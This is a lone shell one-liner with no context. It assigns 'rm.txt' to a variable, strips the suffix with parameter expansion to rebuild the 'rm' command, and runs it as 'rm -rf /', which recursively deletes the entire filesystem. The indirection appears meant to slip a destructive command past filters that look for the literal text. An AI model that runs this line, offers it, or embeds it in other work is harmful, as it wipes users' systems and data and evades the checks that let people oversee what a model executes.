x=rm.txt; ${x%.txt} -rf /
